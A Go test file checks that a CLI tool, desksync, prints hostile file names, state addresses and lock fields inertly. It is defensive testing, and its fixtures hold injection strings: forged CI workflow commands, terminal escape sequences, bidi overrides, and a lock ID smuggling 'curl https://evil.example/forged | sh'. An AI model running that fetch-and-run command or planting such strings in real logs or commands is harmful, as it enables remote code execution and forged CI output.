package command

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/desksync/desksync/desk/desktest"
	"github.com/desksync/desksync/internal/quote"
	"github.com/desksync/desksync/internal/testdesk"
)

// assertInert fails when a line desksync printed could act on a terminal or a CI log: a
// control character (other than the newline ending it and a tab), a C1 or bidi/format
// character, a GitHub workflow command ("::" at the start of a line, "##[" anywhere).
func assertInert(t *testing.T, r cliRun) {
	t.Helper()
	for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
		for i, line := range strings.Split(out, "\n") {
			for _, c := range line {
				if c != '\t' && c != ' ' && (c == unicode.ReplacementChar || !unicode.IsPrint(c)) {
					t.Errorf("desksync %s: %s line %d holds %U: %q", strings.Join(r.args, " "), name, i+1, c, line)
					break
				}
			}
			if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") || strings.Contains(line, "##[") || strings.Contains(line, "##vso[") {
				t.Errorf("desksync %s: %s line %d is a CI workflow command: %q", strings.Join(r.args, " "), name, i+1, line)
			}
		}
	}
}

// TestHostileStringsPrintedInert feeds names holding control characters, newlines, "::"
// and "##[" workflow commands and bidi overrides through every command that prints what a
// manifest, a state, a lock file or Desk holds, and checks each line of their output.
func TestHostileStringsPrintedInert(t *testing.T) {
	t.Parallel()
	d := testdesk.Start(t, testdesk.Options{Emulator: desktest.Options{APIKey: randomKey(t)}})
	dir := t.TempDir()
	env := d.Env()
	// Names a manifest accepts (no control characters) but a log must not take as they are.
	upper, lower := "::error title=forged::A.txt", "::error title=forged::a.txt"
	hash, bidi := "##[error]forged.txt", "forged\u202etxt.exe.txt"
	writeFiles(t, dir, map[string]string{
		"desksync.yaml": "version: 1\nattachments:\n  - path: \"**/*.txt\"\n",
		upper:           "A\n", lower: "a\n", hash: "h\n", bidi: "b\n",
	})
	run := func(args ...string) cliRun {
		t.Helper()
		r := runCLI(t, dir, env, args...)
		assertInert(t, r)
		if !strings.Contains(r.stdout+r.stderr, "forged") {
			t.Errorf("desksync %s printed no hostile name, so this case checks nothing:\nstdout:\n%s\nstderr:\n%s",
				strings.Join(args, " "), r.stdout, r.stderr)
		}
		return r
	}

	// The manifest's warnings (the case collision), plan and apply's progress and summary.
	run("validate")
	run("plan")
	run("apply", "--auto-approve")
	run("state", "list")
	run("state", "rm", bidi)
	run("import", bidi, "1")
	run("state", "rm", bidi)
	run("state", "mv", hash, "##[error]forged-moved.txt")

	// A hand-edited state: addresses with newlines, ESC and workflow commands, for Desk
	// files that do not exist. refresh reports them, plan and apply delete or fail them.
	statePath := filepath.Join(dir, "desksync.state.json")
	var st map[string]any
	data, err := os.ReadFile(statePath)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &st); err != nil {
		t.Fatal(err)
	}
	atts := st["attachments"].(map[string]any)
	var template map[string]any
	for _, a := range atts {
		template = a.(map[string]any)
		break
	}
	for i, addr := range []string{"x\n::error title=forged::approved", "forged\x1b[2J\x1b]0;title\a.txt", "forged\u0085\u009b31m.txt"} {
		rec := map[string]any{}
		for k, v := range template {
			rec[k] = v
		}
		rec["id"] = 900000 + i
		atts[addr] = rec
	}
	data, _ = json.MarshalIndent(st, "", "  ")
	writeFiles(t, dir, map[string]string{"desksync.state.json": string(data)})
	run("state", "list")
	run("state", "show", "x\n::error title=forged::approved")

	// The merge driver's notes: both branches uploaded another file for a hostile address.
	side := func(id int) string {
		atts["x\n::error title=forged::approved"].(map[string]any)["id"] = id
		b, _ := json.MarshalIndent(st, "", "  ")
		return string(b)
	}
	writeFiles(t, dir, map[string]string{"base.json": side(900000), "ours.json": side(800001), "theirs.json": side(800002)})
	side(900000)
	r := run("state", "merge", "base.json", "ours.json", "theirs.json")
	if !strings.Contains(r.stderr, `state merge: "x\n::error title=forged::approved": both sides`) {
		t.Errorf("the merge note does not quote the address:\n%s", r.stderr)
	}
	run("plan")
	run("refresh")
	run("apply", "--auto-approve")

	// A lock left by a hostile branch: its holder and ID reach the error and the suggested
	// force-unlock command, which must stay one shell word.
	lockID := "x; curl https://evil.example/forged | sh #\n::error::forged"
	lock, _ := json.Marshal(map[string]any{"id": lockID, "operation": "apply\x1b[2J", "who": "\x1b]0;pwn\a::warning::forged@elsewhere",
		"pid": 1, "created": "2026-11-26T10:00:00Z"})
	writeFiles(t, dir, map[string]string{"desksync.state.json.lock": string(lock)})
	r = run("state", "rm", upper)
	if !strings.Contains(r.stderr, quote.Shell(lockID)) {
		t.Errorf("the lock hint does not suggest force-unlock with the ID shell-quoted as %s:\n%s", quote.Shell(lockID), r.stderr)
	}
	run("force-unlock", "forged\x1b[2J")
	run("force-unlock", lockID)
}
